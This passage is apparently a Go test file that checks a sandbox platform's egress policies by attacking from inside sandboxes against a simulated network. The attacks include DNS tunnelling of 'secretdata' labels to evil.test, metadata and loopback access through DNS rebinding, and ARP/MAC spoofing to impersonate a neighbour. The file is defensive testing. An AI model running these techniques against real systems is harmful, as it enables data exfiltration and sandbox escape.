package hostile

// Egress policies (issue 18): an agent whose sandbox may reach a package
// mirror and nothing else tries to reach everything else — a denied
// domain, a denied address, the host's loopback and metadata addresses,
// another sandbox, data smuggled out in DNS queries of a denied domain —
// tries to keep a connection past a policy change, and hunts for the
// secret of a brokered credential. Each attack runs for real from inside a
// sandbox against an internet the tests stand up (dsectest.Internet: DNS,
// HTTP, HTTPS and UDP servers in a network namespace the host routes to).
//
// Before egress policies a create's policy was not even read: the sandbox
// had the whole internet (these tests, built against a server of that
// time, fail at their first denied destination).

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/opendsec/dsec/internal/dsectest"
	dsec "github.com/opendsec/dsec/sdk/go"
)

var (
	egressServer *dsectest.Server
	inet         *dsectest.Internet
)

// The brokered secrets: one in the server's configuration (by name), one
// passed at create.
const (
	configSecret = "sk-dsec-configured-5f0e2b7c9d1a4e38"
	inlineSecret = "sk-dsec-inline-8a3c6e1f0b9d2745"
)

// The internet's names: the package mirror (web 0), the attacker's
// domain (web 1), the model API behind the broker (web 2).
const (
	mirrorHost = "mirror.pkgs.test"
	evilHost   = "evil.test"
	apiHost    = "api.model.test"
	inlineHost = "inline.model.test"
)

// egressSrv is a server of its own for these tests: its resolver and
// trusted CAs are the internet's, and it holds a brokered credential.
func egressSrv(t *testing.T) (*dsectest.Server, *dsectest.Internet) {
	t.Helper()
	if egressServer == nil {
		dsectest.Need(t)
		inet = dsectest.StartInternet(shared, 3)
		for name, web := range map[string]int{mirrorHost: 0, "*." + mirrorHost: 0, evilHost: 1, "*." + evilHost: 1, apiHost: 2, inlineHost: 2} {
			inet.Set(name, inet.Web[web])
		}
		cfg := filepath.Join(shared.TempDir(), "egress.yaml")
		yaml := fmt.Sprintf("network:\n  dns: [%s]\n  trusted_cas: %s\n  credentials:\n    - name: model-api\n      host: %s\n      header: X-Api-Key\n      value: %s\n",
			inet.DNS, inet.CAFile, apiHost, configSecret)
		if err := os.WriteFile(cfg, []byte(yaml), 0o600); err != nil {
			t.Fatal(err)
		}
		egressServer = dsectest.Start(shared, dsectest.Options{
			APIKeys: []string{keyA, keyB},
			Args:    []string{"--admin-key", keyAdmin, "--config", cfg},
		})
	}
	return egressServer, inet
}

func egressClient(t *testing.T, entry string) *dsec.Client {
	s, _ := egressSrv(t)
	return dsec.New(s.URL, dsec.WithAPIKey(secret(entry)))
}

// attacker creates a sandbox of project A on the egress server with
// netprobe at /tmp/netprobe.
func attacker(t *testing.T, o dsec.CreateOptions) *dsec.Sandbox {
	t.Helper()
	sb := create(t, egressClient(t, keyA), o)
	uploadFile(t, sb, testdataProgram(t, "netprobe"), "/tmp/netprobe")
	return sb
}

// eachEgressKind runs body once per kind whose sandboxes have egress, as
// subtests: "container" (crun), "gvisor" (a container under gVisor, whose
// own network stack sends the sandbox's frames) and "microvm" (whose
// guest, root over its own kernel, may reconfigure its network stack at
// will: only the host's rules stand between it and the rest).
func eachEgressKind(t *testing.T, body func(t *testing.T, kind string)) {
	t.Run("container", func(t *testing.T) { body(t, "container") })
	t.Run("gvisor", func(t *testing.T) {
		needGVisor(t)
		body(t, "gvisor")
	})
	t.Run("microvm", func(t *testing.T) {
		dsectest.NeedMicroVM(t)
		body(t, "microvm")
	})
}

// attackerOf is attacker for a sandbox of kind ("gvisor": a container
// under gVisor).
func attackerOf(t *testing.T, kind string, o dsec.CreateOptions) *dsec.Sandbox {
	t.Helper()
	o.Kind = kind
	switch kind {
	case "microvm":
		o.MemoryMB = 256
	case "gvisor":
		o.Kind, o.Runtime = "container", "gvisor"
	}
	return attacker(t, o)
}

// egressNeighbour is the neighbour (project B, unrestricted egress) on the
// egress server.
func egressNeighbour(t *testing.T) *neighbour {
	t.Helper()
	nb := &neighbour{sb: create(t, egressClient(t, keyB), dsec.CreateOptions{Network: "egress"})}
	nb.p50(t)
	nb.before = nb.p50(t)
	return nb
}

// sh runs cmd in sb and returns its stdout and stderr together.
func sh(t *testing.T, sb *dsec.Sandbox, cmd string) string {
	t.Helper()
	r, err := sb.Exec(ctxFor(t, time.Minute), dsec.ExecOptions{Cmd: cmd, Timeout: 30 * time.Second})
	if err != nil {
		t.Fatalf("exec %q: %v", cmd, err)
	}
	return string(r.Stdout) + string(r.Stderr)
}

// wget GETs url from inside sb with netprobe and returns the status
// line, the body and "rc=<exit code>" (0: a 2xx answer).
func wget(t *testing.T, sb *dsec.Sandbox, url string) string {
	t.Helper()
	return sh(t, sb, "timeout 10 /tmp/netprobe get "+url+" 2>&1; echo rc=$?")
}

// rawGet GETs http://host/ from inside sb, connecting to addr:port (the
// Host header says host whatever the address).
func rawGet(t *testing.T, sb *dsec.Sandbox, addr string, port int, host string) string {
	t.Helper()
	return sh(t, sb, fmt.Sprintf("timeout 10 /tmp/netprobe get -connect %s:%d http://%s/ 2>&1; echo rc=$?", addr, port, host))
}

// tlsGet GETs https://host/ from inside sb, connecting to addr:443 (the
// SNI says host).
func tlsGet(t *testing.T, sb *dsec.Sandbox, addr, host string) string {
	t.Helper()
	return sh(t, sb, fmt.Sprintf("timeout 10 /tmp/netprobe get -connect %s:443 https://%s/ 2>&1; echo rc=$?", addr, host))
}

// lookup asks the sandbox's resolver (or server) for name.
func lookup(t *testing.T, sb *dsec.Sandbox, name string, flags ...string) string {
	t.Helper()
	return sh(t, sb, "timeout 10 /tmp/netprobe dns "+strings.Join(flags, " ")+" "+name+" 2>&1; echo rc=$?")
}

// probeUDP sends payload to addr:port from inside sb.
func probeUDP(t *testing.T, sb *dsec.Sandbox, addr string, port int, payload string) string {
	t.Helper()
	return sh(t, sb, fmt.Sprintf("timeout 5 /tmp/netprobe udp %s:%d %s 2>&1; echo rc=$?", addr, port, payload))
}

// probing runs each netprobe command (without "/tmp/netprobe") in sb
// every 20 ms for the next 10 s, detached: the attack goes on while the
// neighbour is measured, from one process per command (a program started
// every 20 ms would measure the host's CPU, not the attack).
func probing(t *testing.T, sb *dsec.Sandbox, cmds ...string) {
	t.Helper()
	var b strings.Builder
	for _, c := range cmds {
		fmt.Fprintf(&b, "/tmp/netprobe -for 10s %s >/dev/null 2>&1 & ", c)
	}
	if _, err := sb.Exec(ctxFor(t, time.Minute), dsec.Cmd(b.String())); err != nil {
		t.Fatal(err)
	}
}

// deleteLeavesNoRule deletes sb and fails t if the node's nftables sets
// still hold an element of its address, or its connection log answers.
func deleteLeavesNoRule(t *testing.T, sb *dsec.Sandbox) {
	t.Helper()
	addr := strings.Fields(sh(t, sb, "ip -4 -o addr show eth0"))[3]
	addr = addr[:strings.IndexByte(addr, '/')]
	if err := sb.Close(); err != nil {
		t.Fatalf("delete: %v", err)
	}
	cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", egressServer.Pid()))
	args := strings.Split(string(cmdline), "\x00")
	table := ""
	for i := 0; i+1 < len(args); i++ {
		if args[i] == "--nft-table" {
			table = args[i+1]
		}
	}
	if table == "" {
		t.Fatalf("no --nft-table in %q", args)
	}
	for _, set := range []string{"policed", "allow", "deny", "pins"} {
		out, err := exec.Command("nft", "list", "set", "inet", table, set).CombinedOutput()
		if err != nil {
			t.Fatalf("nft list set %s: %v\n%s", set, err, out)
		}
		if regexp.MustCompile(`\b` + regexp.QuoteMeta(addr) + `\b`).Match(out) {
			t.Errorf("the %s set still holds %s after the delete:\n%s", set, addr, out)
		}
	}
	if _, err := sb.NetworkLog(ctxFor(t, time.Minute), 0); kindOf(err) != "not_found" {
		t.Errorf("the log of a deleted sandbox: %v", err)
	}
}

// egressMark is a random label.
func egressMark(what string) string {
	b := make([]byte, 6)
	rand.Read(b)
	return what + hex.EncodeToString(b)
}

// networkLog is sb's connection log as lines "verdict protocol
// address:port host (reason)".
func networkLog(t *testing.T, sb *dsec.Sandbox) string {
	t.Helper()
	r, err := sb.NetworkLog(ctxFor(t, time.Minute), 0)
	if err != nil {
		t.Fatalf("network log: %v", err)
	}
	var lines []string
	for _, c := range r.Records {
		lines = append(lines, fmt.Sprintf("%s %s %s:%d %s (%s)", c.Verdict, c.Protocol, c.Address, c.Port, c.Host, c.Reason))
	}
	return strings.Join(lines, "\n")
}

// logHas fails t unless sb's connection log holds each of wants within
// 5 s (the kernel's records reach it asynchronously).
func logHas(t *testing.T, sb *dsec.Sandbox, wants ...string) {
	t.Helper()
	var log string
	var missing []string
	for end := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		log, missing = networkLog(t, sb), nil
		for _, w := range wants {
			if !strings.Contains(log, w) {
				missing = append(missing, w)
			}
		}
		if len(missing) == 0 || time.Now().After(end) {
			break
		}
	}
	for _, w := range missing {
		t.Errorf("the log lacks %q", w)
	}
	if len(missing) > 0 {
		t.Logf("the log:\n%s", log)
	}
}

var mirrorOnly = &dsec.Policy{Allow: []string{mirrorHost, "*." + mirrorHost}}

// Under crun and under gVisor (whose own network stack sends the
// sandbox's traffic: the node's resolver, proxy and rules see it the same).
func TestEgressToADeniedDomainIsRefused(t *testing.T) { eachRuntime(t, egressToADeniedDomain) }

func egressToADeniedDomain(t *testing.T, rt string) {
	_, in := egressSrv(t)
	nb := egressNeighbour(t)
	sb := attacker(t, dsec.CreateOptions{Runtime: rt, Network: "egress", Policy: &dsec.Policy{
		Allow: []string{mirrorHost, "*." + mirrorHost},
		Deny:  []string{evilHost, "*." + evilHost},
	}})
	mirror, evil := in.Web[0].String(), in.Web[1].String()

	t.Run("the package mirror is reachable by name", func(t *testing.T) {
		if out := wget(t, sb, "http://"+mirrorHost+"/simple/"); !strings.Contains(out, mirror+" "+mirrorHost+" /simple/") {
			t.Fatalf("GET: %q", out)
		}
		if out := wget(t, sb, "https://files."+mirrorHost+"/"); !strings.Contains(out, "files."+mirrorHost) {
			t.Fatalf("GET over TLS: %q", out)
		}
	})
	t.Run("the denied domain does not resolve", func(t *testing.T) {
		for _, name := range []string{evilHost, "www." + evilHost} {
			if out := lookup(t, sb, name); strings.Contains(out, evil) {
				t.Fatalf("%s resolved: %q", name, out)
			}
		}
	})
	t.Run("the denied domain is refused by HTTP Host at the mirror's address", func(t *testing.T) {
		if out := rawGet(t, sb, mirror, 80, evilHost); !strings.Contains(out, " 403 ") {
			t.Fatalf("not refused: %q", out)
		}
	})
	t.Run("the denied domain is refused by TLS SNI at the mirror's address", func(t *testing.T) {
		if out := tlsGet(t, sb, mirror, evilHost); strings.Contains(out, evilHost+" /") || strings.Contains(out, "rc=0") {
			t.Fatalf("reached: %q", out)
		}
	})
	t.Run("the denied domain's address is unreachable on any port", func(t *testing.T) {
		for _, port := range []int{80, 443, 8080} {
			if out := rawGet(t, sb, evil, port, mirrorHost); strings.Contains(out, "rc=0") {
				t.Errorf("port %d: %q", port, out)
			}
		}
	})
	t.Run("each attempt is in the connection log", func(t *testing.T) {
		logHas(t, sb,
			mirrorHost+" (allow "+mirrorHost+")",
			evilHost+" (deny "+evilHost+")",
			"deny http "+mirror+":80 "+evilHost+" (deny "+evilHost+")",
			"deny tls "+mirror+":443 "+evilHost+" (deny "+evilHost+")",
			"deny tcp "+evil+":8080",
		)
	})
	probing(t, sb, "get http://"+evilHost+"/", "get -connect "+mirror+":443 https://"+evilHost+"/", "get -connect "+evil+":8080 http://"+mirrorHost+"/", "dns "+egressMark("x")+"."+evilHost)
	nb.check(t)
	deleteLeavesNoRule(t, sb)
}

func TestEgressToADeniedAddressIsRefused(t *testing.T) { eachEgressKind(t, egressToADeniedAddress) }

func egressToADeniedAddress(t *testing.T, kind string) {
	_, in := egressSrv(t)
	nb := egressNeighbour(t)
	mirror, evil := in.Web[0], in.Web[1]
	// Every address of the internet but the attacker's, and a name that
	// resolves to the attacker's address: a /32 deny beats the pin.
	in.Set("sneaky."+mirrorHost, evil)
	defer in.Set("sneaky."+mirrorHost, mirror)
	internet := netip.PrefixFrom(mirror, 16).Masked().String()
	sb := attackerOf(t, kind, dsec.CreateOptions{Network: "egress", Policy: &dsec.Policy{
		Allow: []string{internet, "*." + mirrorHost},
		Deny:  []string{evil.String()},
	}})
	t.Run("an allowed address is reachable over TCP and UDP", func(t *testing.T) {
		if out := rawGet(t, sb, mirror.String(), 8080, "x"); !strings.Contains(out, " 200 ") {
			t.Fatalf("tcp: %q", out)
		}
		m := egressMark("udp-allowed-")
		if out := probeUDP(t, sb, mirror.String(), 9999, m); !strings.Contains(out, "echo: "+m) {
			t.Fatalf("udp: %q", out)
		}
	})
	t.Run("the denied address is unreachable over TCP", func(t *testing.T) {
		for _, port := range []int{80, 443, 8080} {
			if out := rawGet(t, sb, evil.String(), port, "x"); strings.Contains(out, "rc=0") {
				t.Errorf("port %d: %q", port, out)
			}
		}
	})
	m := egressMark("udp-denied-")
	t.Run("the denied address gets no UDP", func(t *testing.T) {
		for i := 0; i < 3; i++ {
			if out := probeUDP(t, sb, evil.String(), 9999, m); strings.Contains(out, "echo:") {
				t.Fatalf("echoed: %q", out)
			}
		}
		if strings.Contains(strings.Join(in.UDP(), "\n"), m) {
			t.Fatalf("the denied address got a datagram")
		}
	})
	t.Run("an allowed name resolving to the denied address does not open it", func(t *testing.T) {
		if out := lookup(t, sb, "sneaky."+mirrorHost); !strings.Contains(out, evil.String()) {
			t.Fatalf("the name did not resolve: %q", out)
		}
		if out := rawGet(t, sb, evil.String(), 8080, "sneaky."+mirrorHost); strings.Contains(out, "rc=0") {
			t.Fatalf("reached: %q", out)
		}
		if out := wget(t, sb, "http://sneaky."+mirrorHost+"/"); strings.Contains(out, "rc=0") {
			t.Fatalf("reached through the proxy: %q", out)
		}
	})
	t.Run("each attempt is in the connection log", func(t *testing.T) {
		logHas(t, sb,
			fmt.Sprintf("allow udp %s:9999", mirror),
			fmt.Sprintf("deny udp %s:9999  (deny %s/32)", evil, evil),
			fmt.Sprintf("deny tcp %s:8080  (deny %s/32)", evil, evil),
			fmt.Sprintf("deny http %s:80 sneaky.%s", evil, mirrorHost),
		)
	})
	probing(t, sb, fmt.Sprintf("udp %s:9999 %s", evil, m), fmt.Sprintf("get -connect %s:8080 http://x/", evil), "get http://sneaky."+mirrorHost+"/")
	nb.check(t)
	deleteLeavesNoRule(t, sb)
	if strings.Contains(strings.Join(in.UDP(), "\n"), m) {
		t.Fatalf("the denied address got a datagram during the attack")
	}
}

// hostServer serves HTTP with a marker on the host at addr (port 0: any).
func hostServer(t *testing.T, addr string) (port int, mark string) {
	t.Helper()
	mark = egressMark("host-service-")
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprintln(w, mark) }))
	return l.Addr().(*net.TCPAddr).Port, mark
}

// gatewayOf is the address of an egress sandbox's gateway (the host).
func gatewayOf(t *testing.T, sb *dsec.Sandbox) string {
	t.Helper()
	out := sh(t, sb, "ip route")
	f := strings.Fields(out)
	for i := 0; i+1 < len(f); i++ {
		if f[i] == "via" {
			return f[i+1]
		}
	}
	t.Fatalf("no default route: %q", out)
	return ""
}

func TestEgressNeverReachesTheHostsLoopbackOrMetadata(t *testing.T) {
	eachEgressKind(t, egressToTheHostsLoopbackOrMetadata)
}

func egressToTheHostsLoopbackOrMetadata(t *testing.T, kind string) {
	_, in := egressSrv(t)
	nb := egressNeighbour(t)
	// Host services: one on loopback, one on every address, one on port
	// 80 of the host's address towards the internet (where the egress
	// proxy, which dials from the host, would reach it).
	loPort, loMark := hostServer(t, "127.0.0.1:0")
	anyPort, anyMark := hostServer(t, "0.0.0.0:0")
	_, webMark := hostServer(t, in.HostAddr.String()+":80")
	marks := []string{loMark, anyMark, webMark}
	// The attacker asks for everything, loopback and link-local included,
	// and points names of its own at them (DNS rebinding).
	for name, addr := range map[string]netip.Addr{"rebind": netip.MustParseAddr("127.0.0.1"), "metadata": netip.MustParseAddr("169.254.169.254"), "host": in.HostAddr} {
		in.Set(name+"."+mirrorHost, addr)
		defer in.Set(name+"."+mirrorHost, in.Web[0])
	}
	sb := attackerOf(t, kind, dsec.CreateOptions{Network: "egress", Policy: &dsec.Policy{
		Allow: []string{"0.0.0.0/0", "127.0.0.0/8", "169.254.0.0/16", "10.0.0.0/8", "*"},
	}})
	gw := gatewayOf(t, sb)
	in.Set("gateway."+mirrorHost, netip.MustParseAddr(gw))
	defer in.Set("gateway."+mirrorHost, in.Web[0])
	host := in.HostAddr.String()
	attempts := []struct{ what, url string }{
		{"the host's loopback service", fmt.Sprintf("http://127.0.0.1:%d/", loPort)},
		{"the host's loopback service through a rebound name", fmt.Sprintf("http://rebind.%s:%d/", mirrorHost, loPort)},
		{"a host service on every address, at the gateway", fmt.Sprintf("http://%s:%d/", gw, anyPort)},
		{"a host service on every address, at the host's internet address", fmt.Sprintf("http://%s:%d/", host, anyPort)},
		{"the host's port 80, at its internet address (through the proxy)", "http://" + host + "/"},
		{"the host's port 80 through a rebound name (through the proxy)", "http://host." + mirrorHost + "/"},
		{"the gateway's port 80 through a rebound name (through the proxy)", "http://gateway." + mirrorHost + "/"},
		{"the metadata address (through the proxy)", "http://169.254.169.254/latest/meta-data/"},
		{"the metadata address through a rebound name (through the proxy)", "http://metadata." + mirrorHost + "/"},
	}
	for _, a := range attempts {
		t.Run(a.what+" is unreachable", func(t *testing.T) {
			out := wget(t, sb, a.url)
			for _, m := range marks {
				if strings.Contains(out, m) {
					t.Fatalf("reached: %q", out)
				}
			}
			if strings.Contains(out, "rc=0") {
				t.Fatalf("answered: %q", out)
			}
		})
	}
	t.Run("the refusals are in the connection log", func(t *testing.T) {
		logHas(t, sb,
			fmt.Sprintf("deny tcp %s:%d  (the host)", gw, anyPort),
			fmt.Sprintf("deny http %s:80  (the host's networks)", host),
			"deny http 169.254.169.254:80  (link-local)",
			fmt.Sprintf("deny http %s:80 gateway.%s (the sandbox network)", gw, mirrorHost),
		)
	})
	probing(t, sb, "get http://"+host+"/", fmt.Sprintf("get http://%s:%d/", gw, anyPort), "get http://169.254.169.254/", "get http://gateway."+mirrorHost+"/")
	nb.check(t)
	deleteLeavesNoRule(t, sb)
}

func TestEgressNeverReachesAnotherSandbox(t *testing.T) { eachEgressKind(t, egressToAnotherSandbox) }

func egressToAnotherSandbox(t *testing.T, kind string) {
	egressSrv(t)
	nb := egressNeighbour(t)
	victim := create(t, egressClient(t, keyB), dsec.CreateOptions{Network: "egress"})
	mark := egressMark("victim-")
	sh(t, victim, "mkdir -p /tmp/www && echo "+mark+" > /tmp/www/index.html && httpd -p 8080 -h /tmp/www && httpd -p 80 -h /tmp/www")
	victimIP := strings.Fields(sh(t, victim, "ip -4 -o addr show eth0"))[3]
	victimIP = victimIP[:strings.IndexByte(victimIP, '/')]
	for _, port := range []int{80, 8080} {
		if out := sh(t, victim, fmt.Sprintf("wget -q -O - http://127.0.0.1:%d/", port)); !strings.Contains(out, mark) {
			t.Fatalf("the victim's server on port %d does not answer itself: %q", port, out)
		}
	}
	for _, c := range []struct {
		name   string
		policy *dsec.Policy
	}{
		{"with a policy allowing the victim's address", &dsec.Policy{Allow: []string{victimIP, victimIP + "/24", "0.0.0.0/0", "10.0.0.0/8"}}},
		{"without a policy", nil},
	} {
		t.Run("an attacker "+c.name+" does not reach it", func(t *testing.T) {
			sb := attackerOf(t, kind, dsec.CreateOptions{Network: "egress", Policy: c.policy})
			// Ports 80 and 8080, the first of which a policed sandbox's
			// proxy would take. Neither gets there: the victim is on the
			// attacker's link, and the bridge's isolated ports drop every
			// frame between sandboxes (so nothing reaches the node's
			// rules, its proxy or the connection log). A container cannot
			// route through the gateway instead (no CAP_NET_ADMIN over its
			// network namespace, no raw sockets); a microVM's guest can
			// (its own kernel), and the host drops that too.
			// Both ports at once, each given a second to connect: the
			// victim is on the attacker's bridge, so a connection that
			// got through would be set up in well under a millisecond
			// (the frames are dropped, so a refusal is a timeout).
			reach := func() {
				t.Helper()
				var cmd strings.Builder
				for _, port := range []int{80, 8080} {
					fmt.Fprintf(&cmd, "{ timeout 10 /tmp/netprobe get -dial 1s http://%s:%d/; echo port %[2]d rc=$?; } > /tmp/reach-%[2]d 2>&1 & ", victimIP, port)
				}
				cmd.WriteString("wait; cat /tmp/reach-80 /tmp/reach-8080")
				out := sh(t, sb, cmd.String())
				// Each probe ran and failed: no connection (2), or refused
				// by the node's proxy, which takes a policed sandbox's
				// port 80 (1, its 403).
				if strings.Contains(out, mark) || strings.Contains(out, "rc=0") {
					t.Errorf("reached the victim: %q", out)
				} else if ends := regexp.MustCompile(`port (80|8080) rc=[12]\n`).FindAllString(out, -1); len(ends) != 2 {
					t.Errorf("the probes did not run and fail, as they should: %q", out)
				}
			}
			reach()
			out := sh(t, sb, "ip route add "+victimIP+"/32 via "+gatewayOf(t, sb)+" 2>&1; echo rc=$?")
			switch {
			case kind != "microvm" && !strings.Contains(out, "rc=2") && !strings.Contains(out, "rc=1"):
				// Under crun and under gVisor (whose stack checks the
				// same capability) the workload lacks CAP_NET_ADMIN.
				t.Errorf("the attacker changed its routes: %q", out)
			case kind == "microvm" && !strings.Contains(out, "rc=0"):
				t.Errorf("the guest could not change its own routes: %q", out)
			}
			reach()
			probing(t, sb, "get http://"+victimIP+"/", "get http://"+victimIP+":8080/")
			nb.check(t)
			deleteLeavesNoRule(t, sb)
		})
	}
	if kind != "microvm" {
		return
	}
	t.Run("a guest that takes the victim's address and MAC reaches nothing, and the victim keeps its network", func(t *testing.T) {
		_, in := egressSrv(t)
		mirror := in.Web[0].String()
		uploadFile(t, victim, testdataProgram(t, "netprobe"), "/tmp/netprobe")
		sb := attackerOf(t, kind, dsec.CreateOptions{Network: "egress"})
		// UDP shows what gets out, answer or not: a datagram sent as
		// the victim would reach the internet even though any answer
		// went to the victim.
		own, spoofed := egressMark("udp-own-"), egressMark("udp-spoofed-")
		if out := probeUDP(t, sb, mirror, 9999, own); !strings.Contains(out, "echo: "+own) {
			t.Fatalf("the attacker does not reach the internet to begin with: %q", out)
		}
		victimMAC := strings.TrimSpace(sh(t, victim, "cat /sys/class/net/eth0/address"))
		gw := gatewayOf(t, sb)
		// The guest is root over its own kernel: it takes the victim's
		// identity and announces it (gratuitous ARP, from a raw socket).
		sh(t, sb, fmt.Sprintf("ip link set eth0 down && ip link set eth0 address %s && ip addr flush dev eth0 && ip addr add %s/16 dev eth0 && ip link set eth0 up && ip route add default via %s; arping -U -c 3 -w 2 -I eth0 %s 2>&1; true",
			victimMAC, victimIP, gw, victimIP))
		if out := sh(t, sb, "ip -4 -o addr show eth0; cat /sys/class/net/eth0/address"); !strings.Contains(out, " "+victimIP+"/") || !strings.Contains(out, victimMAC) {
			t.Fatalf("the guest did not take the victim's identity: %q", out)
		}
		for i := 0; i < 3; i++ {
			probeUDP(t, sb, mirror, 9999, spoofed)
		}
		if out := rawGet(t, sb, mirror, 8080, "x"); strings.Contains(out, "rc=0") {
			t.Errorf("the guest reached the internet as the victim: %q", out)
		}
		if got := strings.Join(in.UDP(), "\n"); !strings.Contains(got, own) || strings.Contains(got, spoofed) {
			t.Errorf("the internet got the attacker's own datagram: %v, one sent as the victim: %v", strings.Contains(got, own), strings.Contains(got, spoofed))
		}
		if out := rawGet(t, victim, mirror, 8080, "x"); !strings.Contains(out, "rc=0") {
			t.Errorf("the victim lost its network: %q", out)
		}
		nb.check(t)
		if err := sb.Close(); err != nil {
			t.Fatal(err)
		}
	})
}

func TestDNSTunnellingPastADenyRuleNeverLeavesTheNode(t *testing.T) {
	eachEgressKind(t, dnsTunnellingPastADenyRule)
}

func dnsTunnellingPastADenyRule(t *testing.T, kind string) {
	_, in := egressSrv(t)
	nb := egressNeighbour(t)
	// Everything is allowed but the attacker's domain: its names are the
	// channel (each query carries data to its authoritative server).
	sb := attackerOf(t, kind, dsec.CreateOptions{Network: "egress", Policy: &dsec.Policy{
		Allow: []string{"*", "0.0.0.0/0"},
		Deny:  []string{evilHost, "*." + evilHost},
	}})
	var labels []string
	label := func() string { l := egressMark("secretdata"); labels = append(labels, l); return l }
	dns, web := in.DNS.String(), in.Web[0].String()
	attempts := []struct {
		what  string
		name  string
		flags []string
	}{
		{"through the sandbox's resolver", label() + "." + evilHost, nil},
		{"in upper case", strings.ToUpper(label() + "." + evilHost), nil},
		{"as a TXT query", label() + "." + evilHost, []string{"-type TXT"}},
		{"straight to the domain's own server", label() + "." + evilHost, []string{"-server " + dns}},
		{"over TCP to the domain's own server", label() + "." + evilHost, []string{"-tcp -server " + dns}},
		{"to another resolver address", label() + "." + evilHost, []string{"-server 198.19.250.250"}},
		{"to an address that runs no resolver", label() + ".deeper.sub." + evilHost, []string{"-server " + web}},
	}
	for _, a := range attempts {
		t.Run("a query "+a.what+" is refused", func(t *testing.T) {
			if out := lookup(t, sb, a.name, a.flags...); strings.Contains(out, in.Web[1].String()) || strings.Contains(out, "rc=0") {
				t.Fatalf("answered: %q", out)
			}
		})
	}
	t.Run("no query of the denied domain reached the internet", func(t *testing.T) {
		asked := strings.ToLower(strings.Join(in.Queries(), "\n"))
		for _, l := range labels {
			if strings.Contains(asked, strings.ToLower(l)) {
				t.Errorf("the domain's server was asked about %s", l)
			}
		}
	})
	t.Run("allowed names still resolve", func(t *testing.T) {
		if out := lookup(t, sb, mirrorHost); !strings.Contains(out, in.Web[0].String()) {
			t.Fatalf("%q", out)
		}
	})
	t.Run("the refused queries are in the connection log", func(t *testing.T) {
		log := networkLog(t, sb)
		if n := strings.Count(log, "deny dns"); n < len(labels) {
			t.Errorf("%d denied queries logged, want at least %d:\n%s", n, len(labels), log)
		}
	})
	bg := label()
	probing(t, sb, "dns "+bg+"."+evilHost, "dns -tcp -server "+dns+" "+bg+"."+evilHost)
	nb.check(t)
	deleteLeavesNoRule(t, sb)
	if asked := strings.ToLower(strings.Join(in.Queries(), "\n")); strings.Contains(asked, strings.ToLower(bg)) {
		t.Errorf("a query of the background attack reached the internet")
	}
}

func TestAPolicyChangeAtRuntimeTakesEffectForNewConnections(t *testing.T) {
	_, in := egressSrv(t)
	nb := egressNeighbour(t)
	// The setup phase: the package mirror only.
	sb := attacker(t, dsec.CreateOptions{Network: "egress", Policy: mirrorOnly})
	mirror := in.Web[0].String()
	if out := wget(t, sb, "http://"+mirrorHost+"/"); !strings.Contains(out, mirror) {
		t.Fatalf("setup phase: the mirror: %q", out)
	}
	// A connection opened in the setup phase (to the address the mirror's
	// name pinned), to be used in the rollout phase.
	sh(t, sb, "/tmp/netprobe hold "+mirror+":8080 5s /kept > /tmp/kept 2>&1 &")
	for i := 0; i < 50 && !strings.Contains(sh(t, sb, "cat /tmp/kept"), "connected"); i++ {
		time.Sleep(100 * time.Millisecond)
	}
	// The rollout phase: nothing.
	ctx := ctxFor(t, time.Minute)
	nw, err := sb.SetNetworkPolicy(ctx, &dsec.Policy{})
	if err != nil {
		t.Fatal(err)
	}
	if nw.Policy == nil || len(nw.Policy.Rules) != 0 {
		t.Fatalf("SetNetworkPolicy answered %v", nw)
	}
	t.Run("the mirror is unreachable by name", func(t *testing.T) {
		if out := wget(t, sb, "http://"+mirrorHost+"/"); strings.Contains(out, "rc=0") {
			t.Fatalf("reached: %q", out)
		}
	})
	t.Run("and by its address, pinned in the setup phase", func(t *testing.T) {
		if out := rawGet(t, sb, mirror, 8080, mirrorHost); strings.Contains(out, "rc=0") {
			t.Fatalf("reached: %q", out)
		}
	})
	t.Run("a connection opened before the change is cut", func(t *testing.T) {
		var out string
		for i := 0; i < 100 && !strings.Contains(out, "error:") && !strings.Contains(out, "HTTP/"); i++ {
			time.Sleep(100 * time.Millisecond)
			out = sh(t, sb, "cat /tmp/kept")
		}
		if !strings.Contains(out, "connected") || strings.Contains(out, "/kept") {
			t.Fatalf("the connection carried a request after the change: %q", out)
		}
	})
	t.Run("the policy reads back", func(t *testing.T) {
		nw, err := sb.NetworkPolicy(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if nw.Mode != "egress" || nw.Policy == nil || len(nw.Policy.Rules) != 0 {
			t.Fatalf("network %v", nw)
		}
		info, err := egressClient(t, keyA).Get(ctx, sb.ID)
		if err != nil {
			t.Fatal(err)
		}
		if p := info.Spec.GetNetwork().GetPolicy(); p == nil || len(p.Rules) != 0 {
			t.Fatalf("GetSandbox's spec says %v", info.Spec.GetNetwork())
		}
	})
	t.Run("another project cannot change it", func(t *testing.T) {
		_, err := egressClient(t, keyB).Sandbox(sb.ID).SetNetworkPolicy(ctx, nil)
		if kindOf(err) != "not_found" {
			t.Fatalf("project B's SetNetworkPolicy: %v", err)
		}
		if out := rawGet(t, sb, mirror, 8080, mirrorHost); strings.Contains(out, "rc=0") {
			t.Fatalf("reached after project B's attempt: %q", out)
		}
	})
	t.Run("a sandbox without egress has no policy to set", func(t *testing.T) {
		none := create(t, egressClient(t, keyA), dsec.CreateOptions{})
		if _, err := none.SetNetworkPolicy(ctx, mirrorOnly); kindOf(err) != "invalid" {
			t.Fatalf("SetNetworkPolicy on a sandbox without egress: %v", err)
		}
	})
	probing(t, sb, "get http://"+mirror+":8080/", "get http://"+mirrorHost+"/")
	nb.check(t)
	deleteLeavesNoRule(t, sb)
}

// sandboxPids are the host pids of every process in sb (those in its
// network namespace).
func sandboxPids(t *testing.T, srv *dsectest.Server, sb *dsec.Sandbox) []int {
	t.Helper()
	var want unix.Stat_t
	nsPath := netNSOn(t, srv, sb.ID)
	if err := unix.Stat(nsPath, &want); err != nil {
		t.Fatal(err)
	}
	var pids []int
	procs, _ := filepath.Glob("/proc/[0-9]*/ns/net")
	for _, p := range procs {
		var st unix.Stat_t
		if unix.Stat(p, &st) == nil && st.Ino == want.Ino && st.Dev == want.Dev {
